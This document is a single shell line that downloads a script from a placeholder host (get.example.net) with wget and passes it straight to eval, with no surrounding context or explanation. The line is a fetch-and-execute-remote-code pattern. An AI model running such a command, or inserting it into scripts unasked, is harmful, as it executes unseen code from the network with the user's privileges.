eval "$(wget -qO- https://get.example.net/x)"
